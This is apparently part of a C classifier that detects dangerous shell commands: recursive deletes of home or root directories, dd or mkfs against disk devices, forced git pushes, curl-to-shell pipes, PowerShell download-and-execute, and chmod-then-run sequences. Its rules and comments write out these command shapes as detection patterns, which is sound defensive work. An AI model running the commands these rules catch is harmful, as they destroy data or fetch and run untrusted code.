static bool broad_target(const cx *c, size_t i) {
    const char *p = tok_ptr(c, i);
    size_t n = tok_len(c, i);
    return has(&c->tok[i], R_RM_TARGET) || home_folder(p, n) || system_dir(p, n);
}

static bool disk_device(const char *p, size_t n) {
    static const char *const dev[] = {"/dev/sd",     "/dev/nvme", "/dev/hd",
                                      "/dev/vd",     "/dev/xvd",  "/dev/disk",
                                      "/dev/mmcblk", "/dev/md",   "/dev/mapper/"};
    for (size_t k = 0; k < sizeof(dev) / sizeof(dev[0]); k++) {
        size_t l = strlen(dev[k]);
        if (n > l && eq_nocase(p, l, dev[k]))
            return true;
    }
    return false;
}

static bool other_destroyer(const cx *c, pc_result *res) {
    for (size_t s = 0; s < c->ns; s++) {
        const segment *sg = &c->seg[s];
        if (sg->leader < 0)
            continue;
        size_t L = (size_t)sg->leader;
        bool find = word_is(c, L, "find"), xargs = word_is(c, L, "xargs");
        bool dd = word_is(c, L, "dd"), mkfs = word_starts(c, L, "mkfs");
        bool shred = word_is(c, L, "shred") || word_is(c, L, "wipefs");
        bool git = word_is(c, L, "git");
        if (!(find || xargs || dd || mkfs || shred || git))
            continue;
        bool broad = false, act = false, push = false;
        for (size_t i = sg->first; i < sg->last; i++) {
            if (!is_arg(c, sg, i))
                continue;
            const char *p = tok_ptr(c, i);
            size_t n = tok_len(c, i);
            if (find) {
                broad = broad || broad_target(c, i);
                act = act || eq_nocase(p, n, "-delete") || has(&c->tok[i], R_RM) ||
                      word_is(c, i, "shred");
            } else if (xargs) {
                act = act || has(&c->tok[i], R_RM) || word_is(c, i, "shred");
            } else if (dd) {
                act = act || (n > 3 && eq_nocase(p, 3, "of=") && disk_device(p + 3, n - 3));
                broad = act;
            } else if (mkfs || shred) {
                broad = broad || disk_device(p, n) || broad_target(c, i);
                act = broad;
            } else if (git) {
                push = push || eq_nocase(p, n, "push");
                act = act || (push && (eq_nocase(p, n, "--force") || eq_nocase(p, n, "-f") ||
                                       eq_nocase(p, n, "--mirror") ||
                                       (n > 1 && p[0] == '+' && p[1] != '+')));
                broad = act;
            }
        }
        if (xargs && act) {
            /* the listing piped into xargs names the tree */
            for (size_t t = 0; t < s && !broad; t++) {
                const segment *up = &c->seg[t];
                if (up->pipeline != sg->pipeline || up->leader < 0)
                    continue;
                for (size_t i = up->first; i < up->last && !broad; i++)
                    broad = is_arg(c, up, i) && broad_target(c, i);
            }
        }
        if (broad && act) {
            span_segs(c, res, PC_DESTRUCTIVE, sg, sg);
            return true;
        }
    }
    return false;
}

/* The commands of other_destroyer start no keyword role; their names are
 * looked for only when nothing else can start a rule. */
static bool other_starter(const char *t, size_t n) {
    static const char *const w[] = {"find ",  "xargs ",  "dd ",     "mkfs",
                                    "shred ", "wipefs ", "git push"};
    for (size_t k = 0; k < sizeof(w) / sizeof(w[0]); k++) {
        size_t l = strlen(w[k]);
        for (size_t i = 0; i + l <= n; i++) {
            if (eq_nocase(t + i, l, w[k]) && (i == 0 || !word_char((unsigned char)t[i - 1])))
                return true;
        }
    }
    return false;
}

/* rm -rf ~, rm -fr / (or its glob), rm -r --no-preserve-root /,
 * Remove-Item -Recurse C:\ */
static bool destructive(const cx *c, pc_result *res) {
    if (other_destroyer(c, res))
        return true;
    for (size_t s = 0; s < c->ns; s++) {
        const segment *sg = &c->seg[s];
        bool unix_rm = leader_has(c, sg, BIT(R_RM));
        if (!unix_rm && !leader_has(c, sg, BIT(R_RM_WIN)))
            continue;
        bool recursive = false, target = false;
        for (size_t i = sg->first; i < sg->last; i++) {
            if (!is_arg(c, sg, i))
                continue;
            const char *p = tok_ptr(c, i);
            size_t n = tok_len(c, i);
            if (has(&c->tok[i], R_RM_TARGET) || has(&c->tok[i], R_NO_PRESERVE) ||
                home_folder(p, n) || (unix_rm && system_dir(p, n)))
                target = true;
            if (recursive_flag(p, n))
                recursive = true;
        }
        if (recursive && target) {
            span_segs(c, res, PC_DESTRUCTIVE, sg, sg);
            return true;
        }
    }
    return false;
}

/* Base name of a word: after the last '/' or '\', without a URL query. */
static void base_name(const char *p, size_t n, const char **bp, size_t *bn) {
    const char *q = memchr(p, '?', n);
    if (q != NULL)
        n = (size_t)(q - p);
    q = memchr(p, '#', n);
    if (q != NULL)
        n = (size_t)(q - p);
    size_t k = n;
    while (k > 0 && p[k - 1] != '/' && p[k - 1] != '\\')
        k--;
    *bp = p + k;
    *bn = n - k;
}

/* chmod +x, u+x, a+rx, 755, 0700... */
static bool exec_mode(const char *p, size_t n) {
    if (n >= 2 && (p[0] == '+' || (p[0] >= 'a' && p[0] <= 'z'))) {
        const char *plus = memchr(p, '+', n);
        return plus != NULL && memchr(plus, 'x', n - (size_t)(plus - p)) != NULL;
    }
    if (n == 3 || n == 4) {
        for (size_t i = 0; i < n; i++)
            if (p[i] < '0' || p[i] > '7')
                return false;
        return ((p[n - 3] - '0') & 1) != 0; /* the owner's execute bit */
    }
    return false;
}

/* --- pipes: one pass with per-pipeline state ----------------------------- */

typedef struct pipe_state {
    int32_t head;       /* the pipeline's first command, or -1 */
    int32_t downloader; /* its first command led by a downloader, or -1 */
    int32_t named;      /* its first command with a name, or -1 */
} pipe_state;

/* `curl ... | sh` (download and execute) and `... | sh` (a pipe into an
 * interpreter). The sink must end its pipeline and the pipeline must start
 * with a named command: text that uses '|' as a column separator
 * ("| name | node |") is no pipe. Linear in the number of commands. */
static int pipe_rules(const cx *c, mv_arena *scratch, pc_result *res) {
    pipe_state *ps = mv_arena_alloc(scratch, (c->n_pipelines + 1) * sizeof(*ps));
    if (ps == NULL)
        return MV_ENOMEM;
    for (size_t p = 0; p <= c->n_pipelines; p++)
        ps[p] = (pipe_state){-1, -1, -1};
    for (size_t s = 0; s < c->ns; s++) {
        const segment *sg = &c->seg[s];
        pipe_state *st = &ps[sg->pipeline];
        if (sg->pipe_pos == 0 && st->head < 0)
            st->head = (int32_t)s;
        if (sg->leader >= 0 && sg->pipe_pos > 0 && !sg->piped_out && st->head >= 0 &&
            c->seg[st->head].leader >= 0 && runs_stdin(c, sg)) {
            if (st->downloader >= 0)
                span_segs(c, res, PC_DOWNLOAD_EXEC, &c->seg[st->downloader], sg);
            else if (st->named >= 0)
                span_segs(c, res, PC_INTERP_PIPE, &c->seg[st->named], sg);
        }
        if (leader_has(c, sg, BIT(R_DOWNLOADER)) && st->downloader < 0)
            st->downloader = (int32_t)s;
        if (sg->leader >= 0 && st->named < 0)
            st->named = (int32_t)s;
    }
    return 0;
}

/* bash <(curl ...), sh -c "$(curl ...)", eval "$(wget -O- ...)",
 * iex (iwr ...), and PowerShell's IEX (New-Object Net.WebClient)
 * .DownloadString(...). */
static void substitution_rules(const cx *c, pc_result *res) {
    uint64_t runs = BIT(R_INTERPRETER) | BIT(R_EVALUATOR) | BIT(R_PS_EXEC);
    for (size_t s = 0; s < c->ns; s++) {
        const segment *sg = &c->seg[s];
        if (leader_has(c, sg, BIT(R_DOWNLOADER)) && sg->outer >= 0 &&
            (c->tok[sg->outer].roles & runs) != 0) {
            set_span(c, res, PC_DOWNLOAD_EXEC, (size_t)sg->outer, sg->last - 1);
            return;
        }
    }
    if ((c->all & BIT(R_PS_EXEC)) && (c->all & BIT(R_PS_DOWNLOAD)))
        set_span(c, res, PC_DOWNLOAD_EXEC, 0, c->nt - 1);
}

/* --- files: written or made executable, then run --------------------------- */

/* A file name seen as an argument of a downloader (curl -o x, wget URL/x)
 * or of chmod +x, with the first command that mentioned it. */
typedef struct name_slot {
    const char *p;
    uint32_t n;
    uint32_t hash;
    int32_t downloaded; /* command index, or -1 */
    int32_t made_exec;  /* command index, or -1 */
} name_slot;

typedef struct name_set {
    name_slot *slots;
    size_t mask;
} name_set;

static uint32_t name_hash(const char *p, size_t n) {
    uint32_t h = 2166136261u;
    for (size_t i = 0; i < n; i++)
        h = (h ^ lower((unsigned char)p[i])) * 16777619u;
    return h;
}

static name_slot *name_find(const name_set *ns, const char *p, size_t n, bool insert) {
    uint32_t h = name_hash(p, n);
    for (size_t i = h & ns->mask;; i = (i + 1) & ns->mask) {
        name_slot *sl = &ns->slots[i];
        if (sl->p == NULL) {
            if (!insert)
                return NULL;
            *sl = (name_slot){p, (uint32_t)n, h, -1, -1};
            return sl;
        }
        if (sl->hash == h && sl->n == n) {
            size_t k = 0;
            while (k < n && lower((unsigned char)sl->p[k]) == lower((unsigned char)p[k]))
                k++;
            if (k == n)
                return sl;
        }
    }
}

/* The file name a word refers to (its base name), or false for flags and
 * words that name no file. */
static bool word_file(const cx *c, size_t i, const char **bp, size_t *bn) {
    if (!is_word(&c->tok[i]) || tok_ptr(c, i)[0] == '-')
        return false;
    base_name(tok_ptr(c, i), tok_len(c, i), bp, bn);
    return *bn > 0 && !(*bn == 1 && (*bp)[0] == '-');
}

/* 0 none, 1 downloader, 2 chmod with an execute mode. */
static int file_source(const cx *c, const segment *sg) {
    if (leader_has(c, sg, BIT(R_DOWNLOADER)))
        return 1;
    if (!leader_has(c, sg, BIT(R_CHMOD)))
        return 0;
    for (size_t i = sg->first; i < sg->last; i++)
        if (is_arg(c, sg, i) && exec_mode(tok_ptr(c, i), tok_len(c, i)))
            return 2;
    return 0;
}

/* A later command runs a file named by an earlier source: `./x`, `/tmp/x`,
 * `sh x`, `Start-Process x`. Downloaded-then-run is download-and-execute;
 * made-executable-then-run is chmod +x then run. Linear: one hash set of
 * names. */
static void consider_run(const cx *c, const name_set *set, size_t s, size_t w, pc_result *res) {
    const char *bp;
    size_t bn;
    if (!word_file(c, w, &bp, &bn))
        return;
    const name_slot *sl = name_find(set, bp, bn, false);
    if (sl == NULL)
        return;
    if (sl->downloaded >= 0 && (size_t)sl->downloaded < s)
        span_segs(c, res, PC_DOWNLOAD_EXEC, &c->seg[sl->downloaded], &c->seg[s]);
    if (sl->made_exec >= 0 && (size_t)sl->made_exec < s)
        span_segs(c, res, PC_CHMOD_RUN, &c->seg[sl->made_exec], &c->seg[s]);
}

static int file_rules(const cx *c, mv_arena *scratch, pc_result *res) {
    if (!(c->leaders & (BIT(R_DOWNLOADER) | BIT(R_CHMOD))))
        return 0;
    size_t words = 0;
    for (size_t s = 0; s < c->ns; s++)
        if (file_source(c, &c->seg[s]) != 0)
            words += c->seg[s].last - c->seg[s].first;
    if (words == 0)
        return 0;
    size_t cap = 16;
    while (cap < 2 * words)
        cap *= 2;
    name_set set = {mv_arena_calloc(scratch, cap, sizeof(name_slot)), cap - 1};
    if (set.slots == NULL)
        return MV_ENOMEM;
    for (size_t s = 0; s < c->ns; s++) {
        const segment *sg = &c->seg[s];
        int kind = file_source(c, sg);
        for (size_t i = sg->first; kind != 0 && i < sg->last; i++) {
            const char *bp;
            size_t bn;
            if ((long)i == sg->leader || !word_file(c, i, &bp, &bn))
                continue;
            name_slot *sl = name_find(&set, bp, bn, true);
            if (kind == 1 && sl->downloaded < 0)
                sl->downloaded = (int32_t)s;
            if (kind == 2 && sl->made_exec < 0)
                sl->made_exec = (int32_t)s;
        }
    }
    uint64_t runs_args = BIT(R_INTERPRETER) | BIT(R_EVALUATOR) | BIT(R_RUNNER);
    for (size_t s = 0; s < c->ns; s++) {
        const segment *sg = &c->seg[s];
        if (sg->leader < 0 || file_source(c, sg) != 0)
            continue;
        consider_run(c, &set, s, (size_t)sg->leader, res);
        if (!leader_has(c, sg, runs_args))
            continue;
        for (size_t i = sg->first; i < sg->last; i++)
            if (is_arg(c, sg, i))
                consider_run(c, &set, s, i, res);
    }
    return 0;
}

static int classify_text(const pc_classifier *cl, mv_arena *scratch, const char *text, size_t len,
                         bool nested, pc_result *out);

/* Quotes are transparent to the tokenizer, which is right for
 * `bash -c "curl x | sh"` but hides a command written out as data:
 * `echo "* * * * * curl x | sh" | crontab -`. So every quoted string is
 * also classified on its own (one level deep), and the worst class wins. */
static int classify_quoted(const pc_classifier *cl, mv_arena *scratch, const char *text, size_t len,
                           pc_result *out) {
    int rc = 0;
    size_t i = 0;
    while (i < len && rc == 0) {
        char q = text[i];
        if (q != '\'' && q != '"') {
            i++;
            continue;
        }
        const char *close = memchr(text + i + 1, q, len - i - 1);
        if (close == NULL)
            break;
        size_t from = i + 1, to = (size_t)(close - text);
        if (to - from >= 8) {
            pc_result sub;
            mv_arena_mark mark = mv_arena_save(scratch);
            rc = classify_text(cl, scratch, text + from, to - from, true, &sub);
            mv_arena_rewind(scratch, mark);
            if (rc == 0 && sub.cls > out->cls) {
                out->cls = sub.cls;
                out->span_start = from + sub.span_start;
                out->span_end = from + sub.span_end;
            }
        }
        i = to + 1;
    }
    return rc;
}

static int classify_text(const pc_classifier *cl, mv_arena *scratch, const char *text, size_t len,
                         bool nested, pc_result *out) {
    int rc = 0;
    memset(out, 0, sizeof(*out));
    cx c;
    memset(&c, 0, sizeof(c));
    c.text = text;
    c.len = len;
    if (len == 0 || len > UINT32_MAX)
        goto done;
    c.nt = tokenize(text, len, NULL);
    if (c.nt == 0)
        goto done;
    c.tok = mv_arena_alloc(scratch, c.nt * sizeof(*c.tok));
    c.seg = mv_arena_alloc(scratch, (c.nt + 1) * sizeof(*c.seg));
    if (c.tok == NULL || c.seg == NULL) {
        rc = MV_ENOMEM;
        goto done;
    }
    tokenize(text, len, c.tok);
    scan_ctx sc = {cl, &c};
    mv_ac_scan(cl->ac, text, len, on_keyword, &sc);
    /* Nothing here can start any rule: the common case for decoded data. */
    uint64_t starters = BIT(R_DOWNLOADER) | BIT(R_INTERPRETER) | BIT(R_NETCAT) | BIT(R_SOCAT) |
                        BIT(R_DEVTCP) | BIT(R_FIFO) | BIT(R_SOCKET) | BIT(R_PS_TCP) |
                        BIT(R_PS_DOWNLOAD) | BIT(R_RM) | BIT(R_RM_WIN) | BIT(R_CHMOD) |
                        BIT(R_CRED) | BIT(R_ENV_DUMP) | BIT(R_PS_EXEC);
    if ((c.all & starters) == 0 && !other_starter(text, len))
        goto done;
    build_segments(&c);
    /* Every rule is linear in the text; set_span keeps the worst class. */
    if (reverse_shell(&c, out))
        goto done; /* nothing ranks higher */
    cred_exfil(&c, out);
    destructive(&c, out);
    substitution_rules(&c, out);
    rc = pipe_rules(&c, scratch, out);
    if (rc == 0)
        rc = file_rules(&c, scratch, out);
    if (rc == 0 && !nested)
        rc = classify_quoted(cl, scratch, text, len, out);
done:
    return rc;
}

int pc_classify(const pc_classifier *cl, mv_arena *scratch, const char *text, size_t len,
                pc_result *out) {
    return classify_text(cl, scratch, text, len, false, out);
}
